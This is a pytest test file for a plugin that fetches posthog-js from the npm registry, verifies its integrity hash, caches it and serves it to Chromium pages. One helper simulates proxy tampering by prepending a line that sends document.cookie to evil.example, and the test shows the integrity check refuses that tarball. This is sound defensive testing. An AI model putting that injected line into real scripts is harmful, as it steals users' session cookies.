"""posthog-js without npm: the published package's tarball fetched for real from the npm
registry, checked against the registry's integrity, cached, and served to a page in real
Chromium; offline with nothing cached, one reason naming the fixes.

"Offline" is a registry URL at a loopback port nothing listens on (a bound socket that never
listens refuses every connection)."""

from __future__ import annotations

import io
import json
import socket
import tarfile
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from support import INNER_INI

from pytest_hybrid_analytics._roads.posthog_js import (
    DEFAULT_VERSION,
    FIXES,
    NPM_REGISTRY,
    PostHogJs,
    PostHogJsError,
    fetch_posthog_js,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
LOCK = json.loads((FIXTURES / "package-lock.json").read_text())["packages"]
#: The small, old posthog-js the fixtures also install (npm:posthog-js@1.57.2): 1 MB.
SMALL = LOCK["node_modules/posthog-js-v1-57"]["version"]
SMALL_DIST = FIXTURES / "node_modules" / "posthog-js-v1-57" / "dist"
DIST = FIXTURES / "node_modules" / "posthog-js" / "dist"
WEB = FIXTURES / "web"


@pytest.fixture
def closed_registry() -> Iterator[str]:
    """An http URL at which nothing listens: every request is refused at once."""
    with socket.socket() as reserved:
        reserved.bind(("127.0.0.1", 0))
        yield f"http://127.0.0.1:{reserved.getsockname()[1]}"


def _registry_tarball(version: str) -> tuple[dict[str, Any], bytes]:
    """The registry's own document and tarball for posthog-js ``version``."""
    with urllib.request.urlopen(f"{NPM_REGISTRY}/posthog-js/{version}", timeout=60) as answer:
        document = json.loads(answer.read())
    with urllib.request.urlopen(document["dist"]["tarball"], timeout=60) as answer:
        return document, answer.read()


def test_the_default_version_is_the_one_this_suite_proves() -> None:
    assert LOCK["node_modules/posthog-js"]["version"] == DEFAULT_VERSION


def test_a_published_version_is_fetched_checked_and_kept_whole(
    tmp_path: Path, closed_registry: str
) -> None:
    files = PostHogJs.published(SMALL, cache=tmp_path / "posthog-js", origin="pinned")
    assert (
        files.describe() == f"posthog-js {SMALL} (pinned) from {NPM_REGISTRY}, fetched on first use"
    )
    assert not (tmp_path / "posthog-js").exists()  # nothing until a page asks

    folder = files.dist()
    assert folder == tmp_path / "posthog-js" / SMALL
    # Exactly the dist/*.js files npm installs (no maps, no types, nothing else), byte for byte.
    npm = {path.name for path in SMALL_DIST.glob("*.js")}
    assert {path.name for path in folder.iterdir()} == npm | {"hybrid-analytics.json"}
    for name in npm:
        assert (folder / name).read_bytes() == (SMALL_DIST / name).read_bytes(), name
    marker = json.loads((folder / "hybrid-analytics.json").read_text())
    assert marker == {
        "version": SMALL,
        "tarball": f"{NPM_REGISTRY}/posthog-js/-/posthog-js-{SMALL}.tgz",
        "integrity": LOCK["node_modules/posthog-js-v1-57"]["integrity"],
        "files": sorted(npm),
    }
    assert [p.name for p in (tmp_path / "posthog-js").iterdir()] == [SMALL]  # no staging left
    assert files.describe() == f"posthog-js {SMALL} (pinned) from {NPM_REGISTRY}, cached"

    # A later run, offline: served from the cache, the registry never asked.
    offline = PostHogJs.published(SMALL, cache=tmp_path / "posthog-js", registry=closed_registry)
    assert offline.dist() == folder


def _tampered(tarball: bytes) -> bytes:
    """The same package with one line added to dist/array.js, as a proxy could inject it."""
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(tarball), mode="r:gz") as original,
        tarfile.open(fileobj=out, mode="w:gz") as copy,
    ):
        for member in original:
            stream = original.extractfile(member) if member.isfile() else None
            data = stream.read() if stream is not None else None
            if member.name == "package/dist/array.js" and data is not None:
                data = b"fetch('https://evil.example/'+document.cookie);\n" + data
                member.size = len(data)
            copy.addfile(member, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


@pytest.mark.parametrize("tamper", [False, True], ids=["as-published", "tampered"])
def test_a_tarball_that_does_not_match_the_registrys_integrity_is_refused(
    httpserver: HTTPServer, tmp_path: Path, tamper: bool
) -> None:
    # A mirror that hands out the registry's own document (its integrity) and a tarball of
    # its own: the published one, or one with a line injected into array.js.
    document, tarball = _registry_tarball(SMALL)
    served = _tampered(tarball) if tamper else tarball
    tarball_url = httpserver.url_for(f"/posthog-js/-/posthog-js-{SMALL}.tgz")
    mirrored = {**document, "dist": {**document["dist"], "tarball": tarball_url}}
    httpserver.expect_request(f"/posthog-js/{SMALL}").respond_with_json(mirrored)
    httpserver.expect_request(f"/posthog-js/-/posthog-js-{SMALL}.tgz").respond_with_data(served)
    into = tmp_path / "posthog-js" / SMALL
    registry = httpserver.url_for("/").rstrip("/")

    if not tamper:
        assert fetch_posthog_js(SMALL, registry=registry, into=into) == into
        assert (into / "array.js").read_bytes() == (SMALL_DIST / "array.js").read_bytes()
        return
    with pytest.raises(PostHogJsError) as refused:
        fetch_posthog_js(SMALL, registry=registry, into=into)
    integrity = LOCK["node_modules/posthog-js-v1-57"]["integrity"]
    assert str(refused.value) == (
        f"posthog-js {SMALL}'s tarball ({tarball_url}) does not match the integrity the registry "
        f"gives for it ({integrity}): refused, nothing cached. A proxy or mirror altered it, or "
        "the download was cut short: run again, or set analytics_posthog_js / "
        "HYBRID_ANALYTICS_POSTHOG_JS to a posthog-js package folder (README, 'Browser')"
    )
    assert not (tmp_path / "posthog-js").exists()


def test_offline_with_nothing_cached_names_the_fixes_and_asks_once(
    tmp_path: Path, closed_registry: str, httpserver: HTTPServer
) -> None:
    cache = tmp_path / "posthog-js"
    files = PostHogJs.published(SMALL, cache=cache, registry=closed_registry)
    with pytest.raises(PostHogJsError) as offline:
        files.dist()
    assert str(offline.value) == (
        f"posthog-js {SMALL} could not be fetched ({closed_registry}/posthog-js/{SMALL}: "
        f"[Errno 111] Connection refused) and no copy is cached in {cache / SMALL}: install "
        "posthog-js where the tests run (npm install posthog-js), set analytics_posthog_js / "
        "HYBRID_ANALYTICS_POSTHOG_JS to a posthog-js package folder, point "
        "analytics_npm_registry / HYBRID_ANALYTICS_NPM_REGISTRY at a registry this machine "
        "reaches, or run the tests once where the registry is reachable to fill the cache "
        "(README, 'Browser')"
    )
    assert str(offline.value).endswith(FIXES)

    # A registry that fails is asked once per run, however many pages then ask for the files.
    httpserver.expect_request(f"/posthog-js/{SMALL}").respond_with_data("down", status=503)
    failing = PostHogJs.published(SMALL, cache=cache, registry=httpserver.url_for("/"))
    reasons = set()
    for _ in range(3):
        with pytest.raises(PostHogJsError) as again:
            failing.dist()
        reasons.add(str(again.value))
    assert len(httpserver.log) == 1
    assert reasons == {
        f"posthog-js {SMALL} could not be fetched ({httpserver.url_for('/')}posthog-js/{SMALL}: "
        f"HTTP 503 SERVICE UNAVAILABLE) and no copy is cached in {cache / SMALL}: {FIXES}"
    }


def test_a_version_the_registry_does_not_have(tmp_path: Path) -> None:
    files = PostHogJs.published("1.0.0-not-published", cache=tmp_path)
    with pytest.raises(PostHogJsError) as missing:
        files.dist()
    assert str(missing.value) == (
        f"posthog-js 1.0.0-not-published is not on the registry ({NPM_REGISTRY}/posthog-js/"
        "1.0.0-not-published: HTTP 404): set analytics_posthog_js_version / "
        f"HYBRID_ANALYTICS_POSTHOG_JS_VERSION to a published version, e.g. {DEFAULT_VERSION} "
        "(README, 'Browser')"
    )


# -- the settings, in a user's run (no browser) --------------------------------------------


@pytest.fixture
def inner(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> pytest.Pytester:
    for name in (
        "HYBRID_ANALYTICS_POSTHOG_JS",
        "HYBRID_ANALYTICS_POSTHOG_JS_VERSION",
        "HYBRID_ANALYTICS_NPM_REGISTRY",
        "XDG_CACHE_HOME",
    ):
        monkeypatch.delenv(name, raising=False)
    pytester.makeini(INNER_INI)
    pytester.makepyfile("def test_x(): pass")
    return pytester


def _fake_posthog_js(folder: Path, version: str) -> Path:
    (folder / "dist").mkdir(parents=True)
    (folder / "dist" / "array.js").write_text("/* posthog-js */")
    (folder / "package.json").write_text(json.dumps({"name": "posthog-js", "version": version}))
    return folder


def test_no_local_copy_means_the_default_version_and_a_suite_without_pages_fetches_nothing(
    inner: pytest.Pytester, closed_registry: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HYBRID_ANALYTICS_NPM_REGISTRY", closed_registry)
    result = inner.runpytest_subprocess()
    result.assert_outcomes(passed=1)  # offline, and no page: nothing fails, nothing is asked
    folder = inner.path / ".cache" / "pytest-hybrid-analytics" / "posthog-js" / DEFAULT_VERSION
    result.stdout.fnmatch_lines(
        [
            f"hybrid-analytics: *, posthog-js files: {folder}, PII guard: *",
            f"hybrid-analytics: pages get posthog-js {DEFAULT_VERSION} (the default pin) from "
            f"{closed_registry}, fetched on first use; third-party requests: let through",
        ]
    )
    assert not (inner.path / ".cache").exists()


def test_the_cache_is_pytests_own_unless_the_cache_plugin_is_off(
    inner: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    inner.makeini(INNER_INI.replace(" -p no:cacheprovider", ""))
    result = inner.runpytest_subprocess()
    result.assert_outcomes(passed=1)
    folder = inner.path / ".pytest_cache" / "d" / "hybrid-analytics" / "posthog-js"
    result.stdout.fnmatch_lines(
        [f"hybrid-analytics: *posthog-js files: {folder / DEFAULT_VERSION}, *"]
    )
    monkeypatch.setenv("XDG_CACHE_HOME", str(inner.path / "xdg"))
    result = inner.runpytest_subprocess("-p", "no:cacheprovider")
    folder = inner.path / "xdg" / "pytest-hybrid-analytics" / "posthog-js"
    result.stdout.fnmatch_lines(
        [f"hybrid-analytics: *posthog-js files: {folder / DEFAULT_VERSION}, *"]
    )


def test_a_pin_wins_over_node_modules_and_a_configured_folder_wins_over_a_pin(
    inner: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    local = _fake_posthog_js(inner.path / "node_modules" / "posthog-js", "1.400.1")
    result = inner.runpytest_subprocess()
    result.stdout.fnmatch_lines(
        [
            f"hybrid-analytics: *posthog-js files: {local / 'dist'}, *",
            "hybrid-analytics: pages get posthog-js 1.400.1 (node_modules found from the "
            "rootdir); *",
        ]
    )
    monkeypatch.setenv("HYBRID_ANALYTICS_POSTHOG_JS_VERSION", "1.400.1")  # the same: no fetch
    inner.runpytest_subprocess().stdout.fnmatch_lines(
        ["hybrid-analytics: pages get posthog-js 1.400.1 (node_modules found from the rootdir); *"]
    )
    monkeypatch.setenv("HYBRID_ANALYTICS_POSTHOG_JS_VERSION", SMALL)
    inner.runpytest_subprocess().stdout.fnmatch_lines(
        [
            f"hybrid-analytics: *posthog-js files: */posthog-js/{SMALL}, *",
            f"hybrid-analytics: pages get posthog-js {SMALL} (pinned by "
            f"analytics_posthog_js_version) from {NPM_REGISTRY}, fetched on first use; *",
        ]
    )
    other = _fake_posthog_js(inner.path / "vendor" / "posthog-js", "1.449.2")
    monkeypatch.setenv("HYBRID_ANALYTICS_POSTHOG_JS", str(other))
    inner.runpytest_subprocess().stdout.fnmatch_lines(
        [
            f"hybrid-analytics: *posthog-js files: {other / 'dist'}, *",
            "hybrid-analytics: pages get posthog-js 1.449.2 (analytics_posthog_js, which wins "
            f"over analytics_posthog_js_version {SMALL}); *",
        ]
    )


@pytest.mark.parametrize(
    ("ini", "env", "message"),
    [
        (
            "analytics_posthog_js_version = latest",
            {},
            "analytics_posthog_js_version (or HYBRID_ANALYTICS_POSTHOG_JS_VERSION) must be an "
            f"exact posthog-js version such as {DEFAULT_VERSION} (no range, no tag: every run gets "
            "the same posthog-js), got 'latest'",
        ),
        (
            "",
            {"HYBRID_ANALYTICS_POSTHOG_JS_VERSION": "^1.449"},
            "analytics_posthog_js_version (or HYBRID_ANALYTICS_POSTHOG_JS_VERSION) must be an "
            f"exact posthog-js version such as {DEFAULT_VERSION} (no range, no tag: every run gets "
            "the same posthog-js), got '^1.449'",
        ),
        (
            "analytics_npm_registry = registry.npmjs.org",
            {},
            "analytics_npm_registry (or HYBRID_ANALYTICS_NPM_REGISTRY) must be an http(s) URL of "
            "an npm registry such as https://registry.npmjs.org, got 'registry.npmjs.org'",
        ),
    ],
    ids=["tag", "range-from-env", "registry-without-scheme"],
)
def test_a_bad_pin_or_registry_is_a_usage_error(
    inner: pytest.Pytester,
    monkeypatch: pytest.MonkeyPatch,
    ini: str,
    env: dict[str, str],
    message: str,
) -> None:
    inner.makeini(INNER_INI + f"    {ini}\n")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    result = inner.runpytest_subprocess()
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines([f"ERROR: {message}"])


# -- a page in real Chromium, with no npm ---------------------------------------------------

PAGE_TEST = """
import pytest
from pathlib import Path

SNIPPET = Path({snippet!r}).read_bytes()


def serve(page):
    page.route("http://shop.example/**", lambda route: route.fulfill(
        body=SNIPPET, content_type="text/html"))
    page.goto("http://shop.example/")

{test}
"""
DELIVERS = """
def test_pageview(analytics, page):
    serve(page)
    [pageview] = analytics.wait_for("$pageview", source="client")
    assert pageview.properties["$lib_version"] == {version!r}
    assert analytics.rejected == []
"""
REFUSED = """
@pytest.mark.analytics(allow_rejected=True)
def test_offline(analytics, page):
    serve(page)  # the load event waits for the snippet's array.js (from the collector)
    assert [(r.url, r.status, r.transport, r.reason) for r in analytics.rejected] == [
        ({url!r}, 404, "browser", {reason!r})
    ]
"""


def test_a_page_gets_the_published_posthog_js_with_no_npm_and_no_setting(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, closed_registry: str
) -> None:
    # A user's suite: no node_modules, no analytics_posthog_js, pytest's cache on; a page that
    # loads posthog-js as the snippet, from PostHog's CDN (which this machine cannot reach).
    monkeypatch.delenv("HYBRID_ANALYTICS_POSTHOG_JS", raising=False)
    monkeypatch.delenv("HYBRID_ANALYTICS_POSTHOG_JS_VERSION", raising=False)
    pytester.makeini("""
        [pytest]
        asyncio_default_fixture_loop_scope = function
    """)
    folder = pytester.path / ".pytest_cache" / "d" / "hybrid-analytics" / "posthog-js"
    snippet = str(WEB / "snippet.html")

    # Offline, nothing cached: the page's array.js is a 404 whose reason names the fixes.
    monkeypatch.setenv("HYBRID_ANALYTICS_NPM_REGISTRY", closed_registry)
    array = "https://us-assets.i.posthog.com/static/array.js"
    reason = (
        f"{array} is posthog-js's own array.js: posthog-js {DEFAULT_VERSION} could not be "
        f"fetched ({closed_registry}/posthog-js/{DEFAULT_VERSION}: [Errno 111] Connection "
        f"refused) and no copy is cached in {folder / DEFAULT_VERSION}: {FIXES}"
    )
    pytester.makepyfile(
        PAGE_TEST.format(snippet=snippet, test=REFUSED.format(url=array, reason=reason))
    )
    pytester.runpytest_subprocess().assert_outcomes(passed=1)

    # Online: fetched from the npm registry on first use, and the page delivers its $pageview.
    monkeypatch.delenv("HYBRID_ANALYTICS_NPM_REGISTRY")
    pytester.makepyfile(
        PAGE_TEST.format(snippet=snippet, test=DELIVERS.format(version=DEFAULT_VERSION))
    )
    result = pytester.runpytest_subprocess()
    result.assert_outcomes(passed=1)
    result.stdout.fnmatch_lines(
        [
            f"hybrid-analytics: *posthog-js files: {folder / DEFAULT_VERSION}, *",
            f"hybrid-analytics: pages get posthog-js {DEFAULT_VERSION} (the default pin) from "
            f"{NPM_REGISTRY}, fetched on first use; *",
        ]
    )
    assert (folder / DEFAULT_VERSION / "array.js").read_bytes() == (DIST / "array.js").read_bytes()

    # Offline again: the cached copy serves the page.
    monkeypatch.setenv("HYBRID_ANALYTICS_NPM_REGISTRY", closed_registry)
    result = pytester.runpytest_subprocess()
    result.assert_outcomes(passed=1)
    result.stdout.fnmatch_lines(
        [
            f"hybrid-analytics: pages get posthog-js {DEFAULT_VERSION} (the default pin) from "
            f"{closed_registry}, cached; *"
        ]
    )
